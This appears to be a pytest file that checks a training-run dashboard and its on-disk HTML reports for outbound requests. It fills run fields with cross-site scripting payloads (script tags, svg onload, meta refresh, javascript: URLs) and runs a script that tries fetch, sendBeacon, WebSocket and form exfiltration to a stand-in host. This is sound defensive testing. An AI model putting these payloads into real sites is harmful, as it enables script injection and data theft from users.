"""The dashboard and the pages that are written to disk ask nobody but themselves, whatever a run contains."""

from __future__ import annotations

import contextlib
import json
import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from dashboard_site import Site, wait_until, write_run

from ludus.evaluation.analysis.charts import AnalysisChart, ChartSeries, Figure
from ludus.experiments.comparison.plot import plot_training_curves
from ludus.reports.analysis.page import write_page
from ludus.reports.report import write_report
from ludus.runs.directory import RunDirectory
from ludus.runs.mirror.state import MirrorState

pytestmark = pytest.mark.long

THERE = "http://elsewhere.example"
TEXTS = [
    f"<a href='{THERE}/link'>a link</a>",
    f"<img src={THERE}/picture><script src={THERE}/script></script>",
    f"\"'></textarea></title></script><form action={THERE}/form><button>send</button></form>",
    f"<meta http-equiv=refresh content='0;url={THERE}/refresh'><base href={THERE}/base>",
    f"<link rel=preconnect href={THERE}><link rel=stylesheet href={THERE}/style><iframe src={THERE}/frame>",
    f"</script><svg onload=\"location='{THERE}/svg'\"><style>*{{background:url({THERE}/css)}}</style>",
    f"javascript:location='{THERE}/script'",
    f"[a link]({THERE}/markdown) {THERE}/plain url({THERE}/url)",
]
ALL = " ".join(TEXTS)
CLICKABLE = "button, summary, select, option, th, label, input, tr, canvas, .legendtoggle, .figure text"
CLICK = """(clickable) => {
  const found = [...document.querySelectorAll(clickable)];
  for (const element of found) {
    element.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true, view: window }));
    document.querySelectorAll("dialog[open] button").forEach((button) => button.click());
    document.querySelectorAll("dialog[open]").forEach((dialog) => dialog.close());
  }
  return found.length;
}"""
ATTACKS = """(there) => {
  const add = (tag, attributes) => {
    const element = document.createElement(tag);
    document.body.append(element);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    return element;
  };
  const tries = [
    () => add("img", { src: `${there}/img` }),
    () => add("script", { src: `${there}/script` }),
    () => add("iframe", { src: `${there}/frame` }),
    () => add("video", { src: `${there}/video`, poster: `${there}/poster`, autoplay: "" }),
    () => add("object", { data: `${there}/object` }),
    () => add("embed", { src: `${there}/embed` }),
    () => add("link", { rel: "stylesheet", href: `${there}/style` }),
    () => add("link", { rel: "prefetch", href: `${there}/prefetch` }),
    () => add("div", { style: `background: url(${there}/css)` }),
    () => { document.body.style.background = `url(${there}/body)`; },
    () => fetch(`${there}/fetch`, { mode: "no-cors" }).catch(() => 0),
    () => navigator.sendBeacon(`${there}/beacon`, "data"),
    () => new EventSource(`${there}/events`),
    () => new WebSocket(`${there.replace("http", "ws")}/socket`),
    () => { const form = add("form", { action: `${there}/form`, method: "post", target: "_self" }); form.submit(); },
  ];
  for (const attempt of tries) try { attempt(); } catch { /* refused at once */ }
}"""


class Elsewhere:
    """Everything outside the page's origin: a proxy that notes who connects to it, and what they ask for."""

    def __init__(self) -> None:
        self.asked: list[bytes] = []
        self._listening = socket.create_server(("127.0.0.1", 0))
        self.port = self._listening.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                connection, _ = self._listening.accept()
                connection.settimeout(2)
                with connection, contextlib.suppress(OSError):
                    line = connection.recv(4096).partition(b"\r\n")[0]
                    if b" content-autofill.googleapis.com:" not in line:  # Chromium's own, at every form
                        self.asked.append(line)
                    connection.sendall(b"HTTP/1.1 204 None\r\nConnection: close\r\n\r\n")

    def close(self) -> None:
        self._listening.close()


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    found = Elsewhere()
    yield found
    found.close()


@pytest.fixture
def context(browser: Any, elsewhere: Elsewhere, site: Site) -> Iterator[Any]:
    """A browser for which only the dashboard and the disk are not elsewhere; `asked` are all its requests."""
    proxy = {"server": f"http://127.0.0.1:{elsewhere.port}", "bypass": f"127.0.0.1:{site.port}"}
    found = browser.new_context(proxy=proxy)
    found.set_default_timeout(60_000)
    found.asked = []
    found.on("request", lambda request: found.asked.append(request.url))
    yield found
    found.close()


def hostile_run(root: Path, name: str) -> RunDirectory:
    """A run with a hostile text wherever a run has a text."""
    facts = dict.fromkeys(("env_id", "algorithm", "error", "reason", "command", "device"), ALL)
    facts |= {"tags": TEXTS, "versions": dict(zip(TEXTS, TEXTS, strict=True)), "status": "failed"}
    path = write_run(root, name, **facts)
    info = json.loads((path / "run.json").read_text())
    (path / "run.json").write_text(json.dumps(info | {"name": ALL}))
    (path / "config.yaml").write_text(json.dumps({"algorithm": ALL, name: 1} | dict.fromkeys(TEXTS, ALL)))
    metrics = {
        f"{part}/{text}": 1.0 for part, text in zip(("train", "rollout", "eval", "x"), TEXTS, strict=False)
    }
    rows = ({"step": step, "time/seconds": step, ALL: step} | metrics for step in range(1, 4))
    (path / "metrics.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    (path / "logs").mkdir()
    (path / "logs" / "train.log").write_text("\n".join(TEXTS))
    (path / "videos").mkdir()
    for suffix in ("mp4", "gif"):
        (path / "videos" / f"'><img src=x onerror=alert(1)>.{suffix}").write_bytes(b"no video")
    (path / "report.html").write_text(f"{ALL}<script>location = '{THERE}/?' + document.title</script>")
    turns = [{"index": 0, "seat": 0, "text": ALL, "observation": ALL, "player": ALL, "action": ALL}]
    match = {
        "match": 1,
        "game": ALL,
        "players": TEXTS[:2],
        "rewards": [1.0, -1.0],
        "reason": ALL,
        "length": 1,
    }
    (path / "games").mkdir()
    (path / "games" / "1.jsonl").write_text(json.dumps(match | {"moves": [[0, ALL]], "turns": turns}))
    MirrorState(THERE, missing=1, trouble=ALL).save(path)
    return RunDirectory(path)


def click_everything(page: Any, address: str, ready: str, followed: set[str]) -> int:
    """Follow each link of a page that is not in `followed`, then click on all the rest; how many there were."""
    page.goto(address)
    page.wait_for_selector(ready)
    links = page.locator("a").evaluate_all("(links) => links.map((link) => link.href.baseVal ?? link.href)")
    for number, link in enumerate(links):
        if link not in followed:
            followed.add(link)
            page.locator("a").nth(number).dispatch_event("click")
            page.wait_for_timeout(50)
            for other in page.context.pages[1:]:
                other.close()
            page.goto(address)
            page.wait_for_selector(ready)
    return len(links) + int(page.evaluate(CLICK, CLICKABLE))


def assert_nothing_left(elsewhere: Elsewhere, context: Any, own: tuple[str, ...]) -> None:
    assert elsewhere.asked == []
    assert [url for url in context.asked if not url.startswith((*own, "data:", "about:"))] == []


def test_a_dashboard_of_hostile_runs_sends_nothing_elsewhere(
    root: Path, site: Site, context: Any, elsewhere: Elsewhere
) -> None:
    for name in ("one", "two"):
        hostile_run(root, name)
    first, second = site.id_of("one"), site.id_of("two")
    page, followed = context.new_page(), set[str]()
    assert click_everything(page, f"{site.url}/", "tbody tr:nth-child(2)", followed) > 20
    tabs = ("", "#config", "#checkpoints", "#videos", "#games", "#logs")
    for address in (*(f"/run/{first}{tab}" for tab in tabs), f"/compare?runs={first},{second}"):
        assert click_everything(page, site.url + address, "[role=tabpanel] *", followed) > 10
    assert len(followed) > 10 and all(link.startswith(site.url) for link in followed)
    assert click_everything(page, f"{site.url}/api/runs/{first}/report", "html[data-drawn]", followed) > 2
    assert "elsewhere" in page.title()  # it is this very run
    assert_nothing_left(elsewhere, context, (site.url,))


def test_pages_on_disk_of_hostile_runs_send_nothing_elsewhere(
    tmp_path: Path, context: Any, elsewhere: Elsewhere
) -> None:
    runs = [hostile_run(tmp_path / "runs", name) for name in ("one", "two")]
    steps = np.arange(5.0)
    series = tuple(ChartSeries(text, steps, steps) for text in TEXTS[:2])
    charts = tuple(
        AnalysisChart(TEXTS[0], ALL, ALL, kind, series, tuple(TEXTS)) for kind in ("lines", "bands", "bars")
    )
    pages = [
        write_report(runs[:1], tmp_path / "report.html"),
        write_report(runs, tmp_path / "comparison.html"),
        write_page(
            tmp_path / "analysis.html", ALL, ALL, {ALL: ALL},
            [Figure("episode-1", ALL, ALL, charts, stacked=True), Figure("all", ALL, ALL, charts)],
        ),
        tmp_path / "curves.html",
    ]  # fmt: skip
    plot_training_curves({text: [1.0, 2.0] for text in TEXTS}, save_path=pages[-1], title=ALL)
    page = context.new_page()
    for path in pages:
        links = set[str]()
        assert click_everything(page, path.as_uri(), "html[data-drawn]", links) > 5
        assert links == set()  # also none that Plotly made
    assert_nothing_left(elsewhere, context, (tmp_path.as_uri(),))


def test_not_even_a_script_within_the_pages_could_send_anything(
    root: Path, site: Site, tmp_path: Path, context: Any, elsewhere: Elsewhere
) -> None:
    run = hostile_run(root, "one")
    report = write_report([run], tmp_path / "report.html")
    address = f"{site.url}/run/{site.id_of('one')}"
    page = context.new_page()
    for place, ready in (
        (address, "[role=tabpanel] *"),
        (f"{site.url}/api/runs/{site.id_of('one')}/report", "html[data-drawn]"),
        (report.as_uri(), "html[data-drawn]"),
    ):
        page.goto(place)
        page.wait_for_selector(ready)
        page.evaluate(ATTACKS, THERE)
        page.wait_for_timeout(500)
        assert elsewhere.asked == [] and page.url == place
    (tmp_path / "lax.html").write_text("<body>a page without a policy")
    page.goto((tmp_path / "lax.html").as_uri())
    page.evaluate(ATTACKS, THERE)
    wait_until(lambda: len({line.split(b" ")[1] for line in elsewhere.asked if b" " in line}) > 8, 20)
